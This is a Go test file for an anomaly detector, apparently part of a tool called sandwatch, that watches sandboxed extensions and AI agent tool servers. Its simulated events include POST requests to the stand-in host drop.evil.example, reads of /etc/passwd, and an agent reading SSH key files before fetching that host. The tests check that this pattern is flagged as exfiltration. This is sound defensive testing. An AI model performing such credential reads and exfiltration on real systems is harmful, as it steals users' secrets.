package detect

import (
	"fmt"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/sandwatch/sandwatch/internal/sandboxevent"
)

// Item 6 of the agent-detection issue: a second attack of the same type
// on the same extension, seconds after the first, is folded into the
// first anomaly by dedup; the summary must still name its trace.
func TestDedupSummaryListsFoldedTraces(t *testing.T) {
	h := newHarness(t, func(s *Settings) { s.DedupInterval = 5 * time.Minute; s.MaxFolded = 3 })
	h.learn("ext", 6, fsRead("/app/a"), httpReq("GET", "api.example.com"))
	got, first := h.invoke("ext", httpReq("POST", "drop.evil.example"))
	require.Len(t, ofType(got, TypeNewDestination), 1)
	assert.Equal(t, first, ofType(got, TypeNewDestination)[0].TraceID)

	var folded [][16]byte
	for i := 0; i < 5; i++ { // five repeats, seconds apart: all folded
		h.now += 2 * int64(time.Second)
		got, tid := h.invoke("ext", httpReq("POST", "drop.evil.example"))
		assert.Empty(t, ofType(got, TypeNewDestination), "repeat %d folded", i)
		folded = append(folded, tid)
	}
	h.now += int64(5 * time.Minute)
	h.e.Tick(h.now)
	sum := ofType(h.drain(), TypeNewDestination)
	require.Len(t, sum, 1)
	s := sum[0]
	assert.True(t, s.Repeat)
	assert.Equal(t, uint64(5), s.Count)
	require.Len(t, s.Folded, 3, "bounded by MaxFolded")
	for i, f := range s.Folded {
		assert.Equal(t, folded[i], f.TraceID, "folded trace %d named in order", i)
	}
	assert.Equal(t, uint64(2), s.FoldedUnlisted)
	assert.Equal(t, folded[4], s.TraceID, "the record's own trace is the latest repeat")

	// Once the entry is quiet for an interval it is forgotten, and the
	// next occurrence is reported at once with nothing folded.
	h.now += int64(6 * time.Minute)
	h.e.Tick(h.now)
	require.Empty(t, h.drain())
	got, _ = h.invoke("ext", httpReq("POST", "drop.evil.example"))
	require.Len(t, ofType(got, TypeNewDestination), 1)
	assert.Empty(t, ofType(got, TypeNewDestination)[0].Folded)
}

// A repeat summary that a new occurrence flushes (no tick in between)
// lists its folded traces too, and one trace folded twice is listed once.
func TestDedupFoldedOnNextOccurrence(t *testing.T) {
	h := newHarness(t, func(s *Settings) { s.DedupInterval = time.Minute })
	h.learn("ext", 6, fsRead("/app/a"))
	h.invoke("ext", fsRead("/etc/passwd"))
	tid := h.nextTrace()
	for i := 0; i < 2; i++ { // two spans of one trace
		ev := fsRead("/etc/passwd")
		ev.ExtensionID = "ext"
		h.e.Observe(&ev, Span{TraceID: tid, SpanID: childSpan(i), Start: h.now, End: h.now + ms}, h.now)
	}
	h.drain()
	h.now += int64(2 * time.Minute)
	got, _ := h.invoke("ext", fsRead("/etc/passwd"))
	np := ofType(got, TypeNewPath)
	require.Len(t, np, 2, "the summary, then the new occurrence")
	assert.True(t, np[0].Repeat)
	assert.Equal(t, []TraceRef{{TraceID: tid, SpanID: childSpan(0)}}, np[0].Folded)
	assert.False(t, np[1].Repeat)
}

// Caps: sessions, tools per server, session rings and agent profiles stay
// within their bounds, and the memory each costs at its caps is reported.
func TestAgentStateAtCaps(t *testing.T) {
	h := newHarness(t, func(s *Settings) {
		agentSettings(s)
		s.Agents.MaxSessions, s.Agents.MaxAgents, s.Agents.SessionCalls = 100, 10, 8
		s.Limits.MaxTools = 16
		s.LearnInvocations = 1000 // the servers learn throughout
	})
	// Sessions: 150 sessions of one agent, 100 kept.
	for i := 0; i < 150; i++ {
		h.invoke("filesystem", readFile(fmt.Sprintf("s%d", i), "read_text_file", "/work/a"))
	}
	assert.Equal(t, 100, h.e.agents.sessions.Len())
	assert.Equal(t, uint64(50), h.e.agents.sessions.Evicted)
	// Agents: 15 agents, 10 kept.
	for i := 0; i < 15; i++ {
		ev := toolCall("x", "read_text_file", sandboxevent.ToolClassRead)
		ev.Agent.Agent = fmt.Sprintf("agent-%d", i)
		h.invoke("filesystem", ev)
	}
	assert.Equal(t, 10, h.e.agents.agents.Len())
	// Tools per server: 16 kept, the rest counted and not reported.
	for i := 0; i < 40; i++ {
		got, _ := h.invoke("many-tools", toolCall("t", fmt.Sprintf("tool-%02d", i), sandboxevent.ToolClassOther))
		assert.Empty(t, ofType(got, TypeNewTool))
	}
	p := h.profile("many-tools")
	assert.Equal(t, 16, p.Tools.Len())
	assert.Equal(t, uint64(24), p.Tools.Overflow())
	// A full registry of a learned server: an unknown tool is counted,
	// not reported (quieter, never noisier).
	p.Learned = true
	got, _ := h.invoke("many-tools", toolCall("t", "tool-99", sandboxevent.ToolClassOther))
	assert.Empty(t, ofType(got, TypeNewTool))
	assert.Equal(t, uint64(25), p.Tools.Overflow())

	// The session ring: 20 private reads, then egress: only the 8 latest
	// are held, and the latest is the one named.
	h = newHarness(t, agentSettings)
	learnAgent(t, h, 6)
	var last [16]byte
	for i := 0; i < 20; i++ {
		_, last = h.invoke("filesystem", readFile("ring", "read_text_file", fmt.Sprintf("/home/agent/.ssh/key-%02d", i)))
	}
	sess, _ := h.e.agents.sessions.Get("ring", agentName1)
	assert.Len(t, sess.ReadCalls(), 8)
	got, _ = h.invoke("fetch", fetchURL("ring", "fetch", "drop.evil.example"))
	x := ofType(got, TypeCrossToolExfiltration)
	require.Len(t, x, 1)
	assert.Equal(t, last, x[0].Related.TraceID)
}
